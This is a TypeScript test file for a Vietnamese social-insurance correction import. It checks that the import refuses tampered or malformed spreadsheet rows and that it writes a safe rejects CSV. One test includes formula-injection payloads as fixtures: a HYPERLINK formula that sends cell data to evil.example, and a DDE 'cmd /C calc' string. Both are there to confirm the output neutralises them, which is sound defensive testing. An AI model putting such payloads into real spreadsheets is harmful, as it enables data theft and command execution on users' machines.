// A returned Mẫu 02 is believed only where it is still what we sent: column (2), the name and date in (3)–(4),
// the rest of (1)–(9) and the unit line must belong together, and what the unit typed must be clean.
import { describe, expect, it } from 'vitest';
import { importCorrections } from '../../src/pipeline/corrections.js';
import { readFile } from 'node:fs/promises';
import { databasePerFile, deps, parseCsv, rows, type ParticipantInput } from '../helpers/pipeline.js';
import { listsOut, rejectsByCode, returned, SAO_MAI_PEOPLE, SAO_MAI_REGISTRY } from '../helpers/returned-mau02.js';

const database = databasePerFile();

const OTHER = { ma_don_vi: 'DV0790002', ten_don_vi: 'Công ty Bình Minh', ma_tinh: '079', ma_huyen: '761' };
const PEOPLE: ParticipantInput[] = [
  ...SAO_MAI_PEOPLE,
  { ma_so_bhxh: '0790000009', ho_ten: 'Lê Văn Chín', ngay_sinh: '1979', gioi_tinh: 'Nam', so_giay_to: '', ...OTHER },
];
const REGISTRY = SAO_MAI_REGISTRY;

/** Imported, verified once, lists written: DV0790001's Mẫu 02 is ready to go out. */
async function listsOutHere() {
  const { db } = database();
  return { db, ...(await listsOut(db, PEOPLE, REGISTRY, 'DV0790001')) };
}

const state = (db: ReturnType<typeof database>['db']) =>
  rows(db, 'SELECT ma_so_bhxh, ho_ten, ngay_sinh, so_giay_to, data_version FROM participant ORDER BY 1');

describe('import corrections checks each row against what was sent', () => {
  it('swapping column (2) between two rows changes nobody', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const before = await state(db);
    const file = await returned(mau02, dir, (_ws, row) => {
      const [a, b] = [row('0790000001'), row('0790000005')];
      a.getCell(2).value = '0790000005';
      b.getCell(2).value = '0790000001';
      a.getCell(13).value = '079065000004';
      b.getCell(13).value = '079070000055';
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 0, rejected: 2 });
    expect(await state(db)).toEqual(before);
    expect(await rows(db, 'SELECT * FROM number_history')).toEqual([]);
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000005')).toMatch(/^Cột \(3\), \(4\), \(6\), \(9\) khác với danh sách đã gửi cho mã số BHXH 0790000005/);
  });

  it('a swapped row whose values happen to be the other person\'s on file is refused, not counted unchanged', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      const [a, b] = [row('0790000001'), row('0790000005')];
      a.getCell(2).value = '0790000005';
      b.getCell(2).value = '0790000001';
      a.getCell(12).value = 'Nam'; // Vũ Văn Năm (0790000005) is Nam on file already
      b.getCell(11).value = '1966'; // Đỗ Văn Bốn (0790000001) was born in 1966 on file already
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 0, unchanged: 0, rejected: 2 });
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000005')).toMatch(/khác với danh sách đã gửi cho mã số BHXH 0790000005/);
    expect(why.get('0790000001')).toMatch(/khác với danh sách đã gửi cho mã số BHXH 0790000001/);
  });

  it('a unit line rewritten to another unit corrects nobody of that unit', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const before = await state(db);
    const file = await returned(mau02, dir, (ws, row) => {
      ws.eachRow((r) => r.eachCell((c) => {
        if (typeof c.value === 'string' && c.value.startsWith('Mã đơn vị:')) c.value = 'Mã đơn vị: DV0790002';
      }));
      const a = row('0790000002');
      a.getCell(2).value = '0790000009'; // a person of DV0790002, under another's name and date
      a.getCell(13).value = '079079000009';
      row('0790000003').getCell(10).value = 'Phạm Văn Hưng';
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ unit: 'DV0790002', corrected: 0, rejected: 2 });
    expect(await state(db)).toEqual(before);
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000009')).toMatch(/^Cột \(3\), \(4\), \(5\) khác với danh sách đã gửi/);
    expect(why.get('0790000003')).toBe('Mã số BHXH 0790000003 không thuộc đơn vị DV0790002');
  });

  it('refuses a row whose columns (3), (4) or (5) were edited, and applies the row next to it', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      row('0790000001').getCell(3).value = 'Đỗ Văn Bốn Mới';
      row('0790000001').getCell(11).value = '12/03/1965';
      row('0790000002').getCell(4).value = '1993';
      row('0790000002').getCell(13).value = '079192000006';
      row('0790000003').getCell(5).value = 'Nữ';
      row('0790000003').getCell(10).value = 'Phạm Văn Hưng';
      row('0790000005').getCell(13).value = '079070000055';
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 1, rejected: 3 });
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000001')).toMatch(/^Cột \(3\) khác/);
    expect(why.get('0790000002')).toMatch(/^Cột \(4\) khác/);
    expect(why.get('0790000003')).toMatch(/^Cột \(5\) khác/);
    expect((await rows(db, `SELECT so_giay_to FROM participant WHERE ma_so_bhxh = '0790000005'`))[0]).toEqual({ so_giay_to: '079070000055' });
  });

  it('writes the rejects file in the sheet’s order, whether a row was refused on reading or against the data on file', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      row('0790000003').getCell(4).value = '01/01/1960'; // (1)–(9) edited: refused against what was sent
      row('0790000003').getCell(10).value = 'Phạm Văn Hưng';
      row('0790000005').getCell(11).value = '32/13/1980'; // no date: refused as it is read
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 0, rejected: 2 });
    const [, ...lines] = await parseCsv((await readFile(r.rejectsFile, 'utf8')).replace(/^\uFEFF/, ''));
    expect(lines.map((l) => l[2])).toEqual(['0790000003', '0790000005']);
    expect(Number(lines[0]![0])).toBeLessThan(Number(lines[1]![0]));
  });

  it('refuses a correction typed over (3)–(6) with (10)–(13) left empty, rather than counting it "not filled in"', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const before = await state(db);
    const file = await returned(mau02, dir, (_ws, row) => {
      row('0790000003').getCell(5).value = 'Nữ'; // the sex corrected where the clerk read it
      row('0790000005').getCell(4).value = '15/07/1970';
      row('0790000005').getCell(6).value = '079070000055';
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 0, rejected: 2 });
    expect(r.empty).toBeGreaterThan(0); // the others, untouched, are not filled in
    expect(await state(db)).toEqual(before);
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000003')).toBe(
      'Cột (5) khác với danh sách đã gửi cho mã số BHXH 0790000003, còn cột (10)–(13) để trống: điều chỉnh chưa được ghi nhận — ' +
        'không sửa từ cột (1) đến cột (9), ghi thông tin đúng vào cột (12); nếu danh sách đã cũ, dùng danh sách mới nhất',
    );
    expect(why.get('0790000005')).toMatch(/^Cột \(4\), \(6\) khác .* ghi thông tin đúng vào cột \(11\), \(13\);/);
    // Returned again as sent: nothing refused.
    const again = await importCorrections(deps(db), await returned(mau02, dir, () => undefined));
    expect(again).toMatchObject({ corrected: 0, rejected: 0 });
    // A person whose data changed on a later day than the list's (a night's export, a correction on the portal): the
    // old list's untouched row differs from the data now, which nobody typed — not filled in, not refused.
    await db.query(`UPDATE participant SET ho_ten = 'Phạm Văn Hưng', updated_at = now() + interval '2 days' WHERE ma_so_bhxh = '0790000003'`);
    const later = await importCorrections(deps(db), await returned(mau02, dir, () => undefined));
    expect(later).toMatchObject({ corrected: 0, rejected: 0 });
  });

  it('two copies of one list filled in by two clerks, entered the day the list was made: the second refuses nobody', async () => {
    // The portal's download is always of today: two clerks each fill in their half of a copy. Once the first copy is
    // entered, the second's untouched rows of the people it corrected show their data before that correction —
    // not typed over by anyone, and not "điều chỉnh chưa được ghi nhận" (it was).
    const { db, dir, mau02 } = await listsOutHere();
    const first = await returned(mau02, dir, (_ws, row) => {
      row('0790000003').getCell(10).value = 'Phạm Văn Hưng';
      row('0790000003').getCell(12).value = 'Nữ';
    });
    expect(await importCorrections(deps(db), first)).toMatchObject({ corrected: 1, rejected: 0 });
    const second = await returned(mau02, dir, (_ws, row) => void (row('0790000005').getCell(13).value = '079070000055'));
    const r = await importCorrections(deps(db), second);
    expect(r).toMatchObject({ corrected: 1, rejected: 0 });
    expect(await rejectsByCode(r.rejectsFile)).toEqual(new Map());
    // A value typed over (3)–(6) that no correction explains is still refused.
    const typed = await returned(mau02, dir, (_ws, row) => void (row('0790000003').getCell(4).value = '01/01/1960'));
    const t = await importCorrections(deps(db), typed);
    expect(t).toMatchObject({ corrected: 0, rejected: 1 });
    expect((await rejectsByCode(t.rejectsFile)).get('0790000003')).toMatch(/^Cột \(4\) khác với danh sách đã gửi cho mã số BHXH 0790000003, còn cột \(10\)–\(13\) để trống/);
  });

  it('refuses over-long values, control characters, a right-to-left override and Excel error values', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const before = await state(db);
    const file = await returned(mau02, dir, (_ws, row) => {
      row('0790000001').getCell(10).value = 'Đỗ Văn Bốn'.repeat(4000); // 40 000 characters
      row('0790000002').getCell(10).value = 'Ngô Thị\tSáu';
      row('0790000003').getCell(10).value = '\u202eHùng Văn Phạm';
      row('0790000005').getCell(11).value = { error: '#DIV/0!' };
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 0, empty: 0, rejected: 4 });
    expect(await state(db)).toEqual(before);
    // A control character as Excel itself writes it (_x0007_), which is how a spreadsheet library reads it back.
    const bell = await returned(mau02, dir, (_ws, row) => void (row('0790000002').getCell(10).value = 'Ngô Thị_x0007_ Sáu'));
    expect(await importCorrections(deps(db), bell)).toMatchObject({ corrected: 0, rejected: 1 });
    const why = await rejectsByCode(r.rejectsFile);
    expect(why.get('0790000001')).toBe('Cột (10) họ và tên dài hơn 100 ký tự cho phép'); // read as its first 100 and one more
    expect(why.get('0790000002')).toMatch(/^Cột \(10\) họ và tên có ký tự điều khiển/);
    expect(why.get('0790000003')).toMatch(/^Cột \(10\) họ và tên có ký tự điều khiển hoặc ký tự đổi chiều văn bản \(như U\+202E\)/);
    expect(why.get('0790000005')).toBe('Ô có giá trị lỗi của Excel ở cột (11) #DIV/0!: ghi lại giá trị đúng');
  });

  it('writes the rejects so that no spreadsheet runs what a unit typed: a cell starting =, +, -, @ is text', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const link = '=HYPERLINK("http://evil.example/?"&C3,"Bấm vào đây")';
    const file = await returned(mau02, dir, (_ws, row) => {
      row('0790000001').getCell(10).value = link;
      row('0790000001').getCell(11).value = '31/02/1980'; // refused for the date
      row('0790000002').getCell(11).value = "@SUM(1+1)*cmd|' /C calc'!A0";
      row('0790000003').getCell(11).value = '-2+3';
    });
    expect(await importCorrections(deps(db), file)).toMatchObject({ corrected: 0, rejected: 3 });
    const [, ...lines] = await parseCsv((await readFile(`${file}.rejects.csv`, 'utf8')).replace(/^\uFEFF/, ''));
    const cells = lines.flat();
    expect(cells).toContain(`'${link}`);
    expect(cells).toContain("'@SUM(1+1)*c"); // kept to the date column's 10 characters and one more
    expect(cells).toContain("'-2+3");
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('refuses, with why, a row whose number was typed into a cell formatted as a date, and applies the others', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      const a = row('0790000002').getCell(13);
      a.value = 79179018501; // a CCCD typed as a number, its leading zero gone: far past Excel's last day
      a.style = { ...a.style, numFmt: 'dd/mm/yyyy' };
      row('0790000003').getCell(10).value = 'Hùng Văn Phạm';
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 1, rejected: 1 });
    expect((await rejectsByCode(r.rejectsFile)).get('0790000002')).toBe(
      'Ô có giá trị lỗi của Excel ở cột (13) số quá lớn trong ô định dạng ngày (định dạng cột là Text rồi nhập lại): ghi lại giá trị đúng',
    );
  });

  it('takes real Excel date cells in column (11), date-formatted or pasted into the text column', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      const a = row('0790000001').getCell(11);
      a.value = new Date(Date.UTC(1965, 2, 12));
      a.style = { ...a.style, numFmt: 'dd/mm/yyyy' }; // this cell only: the column's cells share one style object
      row('0790000002').getCell(11).value = new Date(Date.UTC(1992, 9, 20)); // keeps the column's text format: read back as 33897
      row('0790000005').getCell(11).value = 1970; // a year typed as a number stays a year
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 2, unchanged: 1, rejected: 0 });
    expect(await rows(db, `SELECT ma_so_bhxh, ngay_sinh FROM participant WHERE ma_so_bhxh IN ('0790000001', '0790000002', '0790000005') ORDER BY 1`)).toEqual([
      { ma_so_bhxh: '0790000001', ngay_sinh: '1965-03-12' },
      { ma_so_bhxh: '0790000002', ngay_sinh: '1992-10-20' },
      { ma_so_bhxh: '0790000005', ngay_sinh: '1970' },
    ]);
  });

  it('refuses a date cell shown month first where its day could be a month, and a date typed as digits as what was typed', async () => {
    const { db, dir, mau02 } = await listsOutHere();
    const file = await returned(mau02, dir, (_ws, row) => {
      // 12/03/1965 typed under English (USA) settings: stored as 3 December, shown `12/03/65` (LibreOffice's mm/dd/yy).
      const a = row('0790000001').getCell(11);
      a.value = new Date(Date.UTC(1965, 11, 3));
      a.style = { ...a.style, numFmt: 'mm/dd/yy' }; // this cell only: the column's cells share one style object
      // Shown `10/20/92`: one reading only.
      const b = row('0790000002').getCell(11);
      b.value = new Date(Date.UTC(1992, 9, 20));
      b.style = { ...b.style, numFmt: 'mm/dd/yy' };
      // 02011995 typed into a General cell: the number 2011995, its leading zero lost (not 26/08/7408).
      const c = row('0790000005').getCell(11);
      c.value = 2011995;
      c.style = { ...c.style, numFmt: 'General' };
    });
    const r = await importCorrections(deps(db), file);
    expect(r).toMatchObject({ corrected: 1, rejected: 2 });
    const [, ...lines] = await parseCsv((await readFile(r.rejectsFile, 'utf8')).replace(/^\uFEFF/, ''));
    expect(lines.map((l) => [l[2], l[1], l[4]])).toEqual([
      [
        '0790000001',
        // Not an Excel error value: a date whose day and month cannot be told apart, said as such.
        'Cột (11) ngày sinh "12/03/1965": ngày trong ô định dạng tháng trước ngày (mm/dd/yy, hoặc ngày ngắn theo cài đặt máy tính), ' +
          'không rõ số nào là ngày, số nào là tháng (định dạng cột là Text rồi gõ lại dạng dd/mm/yyyy)',
        '12/03/1965',
      ],
      ['0790000005', 'Cột (11) ngày tháng năm sinh "2011995" không hợp lệ: ghi dd/mm/yyyy, mm/yyyy hoặc yyyy', '2011995'],
    ]);
    expect(await rows(db, `SELECT ma_so_bhxh, ngay_sinh FROM participant WHERE ma_so_bhxh IN ('0790000001', '0790000002') ORDER BY 1`)).toEqual([
      { ma_so_bhxh: '0790000001', ngay_sinh: '1966' },
      { ma_so_bhxh: '0790000002', ngay_sinh: '1992-10-20' },
    ]);
  });
});
